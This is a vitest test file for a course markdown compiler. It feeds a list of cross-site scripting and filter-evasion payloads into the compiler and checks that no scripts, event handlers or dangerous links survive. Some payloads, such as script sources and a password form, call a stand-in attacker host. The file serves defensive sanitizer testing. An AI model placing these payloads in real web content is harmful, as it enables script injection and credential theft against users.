import { describe, expect, it } from 'vitest';
import { compileLesson } from '$lib/courses/markdown';
import type { Block } from '$lib/courses/types';

/** Ways in that authors of other systems have had to close (OWASP's cheat sheet on filter evasion, and directives of ours). */
const attacks = [
	'<script>alert(1)</script>',
	'<SCRIPT SRC=//evil.example/x.js></SCRIPT>',
	'<img src=x onerror=alert(1)>',
	'<svg onload=alert(1)><a xlink:href="javascript:alert(1)">x</a></svg>',
	'<iframe src="https://evil.example"></iframe>',
	'<iframe srcdoc="<script>alert(1)</script>"></iframe>',
	'<style>@import url(https://evil.example/x.css)</style>',
	'<p style="background:url(https://evil.example)">x</p>',
	'<form action="https://evil.example"><input name=password></form>',
	'<object data="https://evil.example"></object><embed src="https://evil.example">',
	'<meta http-equiv="refresh" content="0;url=https://evil.example">',
	'<base href="https://evil.example/">',
	'<link rel="stylesheet" href="https://evil.example/x.css">',
	'<video src="https://evil.example/x.mp4" onplay=alert(1)></video>',
	'<math><mtext><img src onerror=alert(1)></mtext></math>',
	'[x](javascript:alert(1))',
	'[x](JaVaScRiPt:alert(1))',
	'[x](java\tscript:alert(1))',
	'[x](&#106;avascript:alert(1))',
	'[x](data:text/html,<script>alert(1)</script>)',
	'[x](vbscript:msgbox(1))',
	'<javascript:alert(1)>',
	'![x](https://evil.example/pixel.png)',
	'![x](x "onerror=alert(1)")',
	':term[<img src=x onerror=alert(1)>]{id="x"}',
	':term[x]{id="x" onclick="alert(1)" style="x" href="javascript:alert(1)"}',
	':button[x]{onclick="alert(1)"}',
	':script[alert(1)]',
	'<details open ontoggle=alert(1)>x</details>',
	'<button popovertarget=x onclick=alert(1)>x</button>',
	'`</code><script>alert(1)</script>`',
	'<!--><script>alert(1)</script>-->',
	'| a |\n| - |\n| <img src=x onerror=alert(1)> |'
];

const htmlOf = (block: Block): string => [block.html, ...block.items, ...block.blocks.map(htmlOf)].join('\n');
const compiled = (markdown: string): string =>
	compileLesson(`## Step\n\n${markdown}\n`, 'hostile.en.md')
		.flatMap(({ blocks }) => blocks.map(htmlOf))
		.join('\n');

describe('what an author writes', () => {
	it.each(attacks)('never runs or loads anything: %s', (attack) => {
		for (const markdown of [attack, `:::rule\n${attack}\n:::`, `:::dialogue\n- **A**: ${attack.split('\n')[0]}\n:::`]) {
			const html = compiled(markdown);
			expect(html).not.toMatch(
				/<\/?(script|style|iframe|object|embed|form|input|link|meta|base|svg|math|img|video|audio)\b/i
			);
			expect(html).not.toMatch(/<[^>]*\s(on\w+|style|src|srcset|srcdoc|action|formaction|xlink:href)\s*=/i);
			expect(html).not.toMatch(/<[^>]*href="\s*(javascript|data|vbscript):/i);
		}
	});
});
